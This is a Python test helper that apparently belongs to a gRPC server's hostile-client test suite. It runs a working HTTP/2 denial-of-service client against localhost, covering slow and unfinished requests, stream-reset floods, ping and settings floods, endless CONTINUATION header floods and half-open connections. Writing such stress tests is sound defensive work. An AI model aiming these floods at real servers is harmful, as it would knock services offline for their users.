"""A client that starts gRPC requests and never finishes them, as its own process.

``python -m tests.hostile.unfinished_requests PORT METHOD KIND CONNECTIONS STREAMS BYTES SECONDS``
prints ``held`` when all that can be sent is sent, and keeps everything open until its standard
input ends, or for that many seconds. It speaks to this machine only. Its kinds:

- ``headers``: headers, and no message.
- ``last_byte``: messages of so many bytes, without their last byte.
- ``dribble``: a message's length, then a byte now and then.
- ``empty``: no message at all, over and over, each request ended at once.
- ``garbage``: bytes that are no message of the method, over and over.
- ``reset``: requests that are taken back at once, over and over.
- ``ping``, ``settings``, ``empty_data``: floods of these frames beside one request.
- ``big_headers``: requests with as much metadata as fits.
- ``idle``: connections without any request.
- ``half_open``: connections that never say a word of HTTP/2, half of them closed for writing.
- ``oversize``: messages that say that they have so many bytes, over and over.
- ``headers_flood``: a block of headers of so many bytes without an end, over and over.
- ``deaf``: as ``last_byte``, and nothing that the server says is read once all is sent.
"""

from __future__ import annotations

import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, StreamEnded, StreamReset
from h2.exceptions import ProtocolError

FRAME_BYTES = 16 * 1024
SETTLE_S = 1.0
FLOODS = {"empty", "garbage", "reset", "ping", "settings", "empty_data", "oversize"}
HEADERS, CONTINUATION = 1, 9
HEADER_BYTES = b"\x00\x01a\x01b"  # one header, as HPACK writes it without an index


@dataclass
class Wire:
    """One connection of the attacker."""

    port: int
    path: str
    until: float
    left: dict[int, int] = field(default_factory=dict)
    ended: int = 0
    gone: bool = False

    def __post_init__(self) -> None:
        self.sock = socket.create_connection(("127.0.0.1", self.port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.send()
        self.read(0.2)

    def send(self) -> None:
        """Send what was written; read while the server wants to be read."""
        data = self.h2.data_to_send()
        self.sock.settimeout(2.0)
        try:
            self.sock.sendall(data)
        except OSError:
            self.gone = True

    def read(self, wait_s: float) -> None:
        """Read for at most that long."""
        if self.gone or not select.select([self.sock], [], [], wait_s)[0]:
            return
        try:
            data = self.sock.recv(1 << 20)
            events = self.h2.receive_data(data)
        except (OSError, ProtocolError):
            self.gone = True
            return
        if not data or any(isinstance(event, ConnectionTerminated) for event in events):
            self.gone = True
            return
        for event in events:
            if isinstance(event, StreamEnded | StreamReset):
                self.ended += 1
                self.left.pop(event.stream_id, None)
        self.send()

    def begin(self, *more: tuple[str, str], end: bool = False) -> int:
        """Send the headers of a request; return its stream."""
        stream = self.h2.get_next_available_stream_id()
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self.path),
            (":authority", "localhost"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *more,
        ]
        self.h2.send_headers(stream, headers, end_stream=end)
        return stream

    def fill(self, size: int) -> None:
        """Send messages of ``size`` bytes on all streams, as far as the server lets us."""
        first = {stream: struct.pack(">BI", 0, size) for stream in self.left}
        quiet_since = time.monotonic()
        while self.left and not self.gone and time.monotonic() < self.until:
            moved = False
            for stream in list(self.left):
                try:
                    room = min(self.h2.local_flow_control_window(stream), FRAME_BYTES)
                    piece = (first.get(stream, b"") + bytes(room))[: min(room, self.left[stream])]
                    if not piece:
                        continue
                    self.h2.send_data(stream, piece)
                except ProtocolError:
                    self.left.pop(stream, None)
                    continue
                first.pop(stream, None)
                self.left[stream] -= len(piece)
                moved = True
                self.send()
            self.read(0.001 if moved else 0.05)
            if moved:
                quiet_since = time.monotonic()
            if time.monotonic() - quiet_since > SETTLE_S or not any(self.left.values()):
                return

    def flood(self, kind: str, size: int) -> None:
        """Send one more of a flood's requests or frames."""
        if kind == "empty":
            self.begin(end=True)
        elif kind == "garbage":
            self.h2.send_data(self.begin(), struct.pack(">BI", 0, 9) + b"\xff" * 9, end_stream=True)
        elif kind == "oversize":
            self.h2.send_data(self.begin(), struct.pack(">BI", 0, size) + b"x")
        elif kind == "reset":
            self.h2.reset_stream(self.begin())
        elif kind == "ping":
            self.h2.ping(b"12345678")
        elif kind == "settings":
            self.h2.update_settings({4: 65_535})
        else:
            self.h2.send_data(min(self.left), b"")


def begin(wire: Wire, kind: str, streams: int, size: int) -> None:
    """Begin one connection's part: all that can be sent at once."""
    more = [("x-long", "y" * size)] if kind == "big_headers" else []
    if kind not in FLOODS | {"idle"}:
        for _ in range(min(streams, wire.h2.remote_settings.max_concurrent_streams)):
            wire.left[wire.begin(*more)] = size + 4
            wire.send()
    elif kind == "empty_data":
        wire.left[wire.begin()] = 1
    if kind in ("last_byte", "deaf"):
        wire.fill(size)
    elif kind == "headers":
        settled = time.monotonic() + SETTLE_S
        while time.monotonic() < settled:
            wire.read(0.1)
    elif kind == "dribble":
        for stream in wire.left:
            wire.h2.send_data(stream, struct.pack(">BI", 0, size))
        wire.send()


def attack(wire: Wire, kind: str, streams: int, size: int, held: Callable[[], None]) -> None:
    """Do one connection's part."""
    begin(wire, kind, streams, size)
    held()
    while not wire.gone and time.monotonic() < wire.until:
        try:
            if kind in FLOODS:
                for _ in range(20):
                    wire.flood(kind, size)
                wire.send()
            elif kind == "dribble":
                for stream in list(wire.left):
                    wire.h2.send_data(stream, b"x")
                wire.send()
        except ProtocolError:
            wire.read(0.05)
        if kind == "deaf":
            time.sleep(0.05)
        else:
            wire.read(0.001 if kind in FLOODS else 0.1)


def half_open(port: int, streams: int, held: Callable[[], None], until: float) -> None:
    """Open connections that say nothing, and keep them."""
    socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(streams)]
    for sock in socks[::2]:
        sock.shutdown(socket.SHUT_WR)
    held()
    time.sleep(max(0.0, until - time.monotonic()))


def headers_flood(port: int, size: int, held: Callable[[], None], until: float) -> None:
    """Send headers that never end, on a new connection whenever the last was closed."""
    headers = HEADER_BYTES * (FRAME_BYTES // len(HEADER_BYTES))
    while time.monotonic() < until:
        try:
            sock = socket.create_connection(("127.0.0.1", port))
            sock.settimeout(2.0)
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, b""))
            for number in range(size // len(headers)):
                sock.sendall(frame(CONTINUATION if number else HEADERS, 1, headers))
                held()
        except OSError:
            continue
        sock.close()


def frame(kind: int, stream: int, data: bytes) -> bytes:
    """Return an HTTP/2 frame without flags."""
    return len(data).to_bytes(3, "big") + struct.pack(">BBI", kind, 0, stream) + data


def main() -> None:
    """Attack until standard input ends."""
    port, path, kind, *numbers = sys.argv[1:]
    connections, streams, size, seconds = map(int, numbers)
    until = time.monotonic() + seconds
    waiting = threading.Semaphore(0)
    wires: list[Wire] = []

    def run() -> None:
        if kind == "half_open":
            return half_open(int(port), streams, waiting.release, until)
        if kind == "headers_flood":
            return headers_flood(int(port), size, waiting.release, until)
        try:
            wire = Wire(int(port), path, until)
        except OSError:
            waiting.release()
            return None
        wires.append(wire)
        try:
            attack(wire, kind, streams, size, waiting.release)
        finally:
            waiting.release()
        return None

    for _ in range(connections):
        threading.Thread(target=run, daemon=True).start()
    for _ in range(connections):
        waiting.acquire()
    print("held", flush=True)
    select.select([sys.stdin], [], [], max(0.0, until - time.monotonic()))
    left = sum(len(wire.left) for wire in wires)
    print(f"ended={sum(w.ended for w in wires)} left={left} gone={sum(w.gone for w in wires)}")


if __name__ == "__main__":
    main()
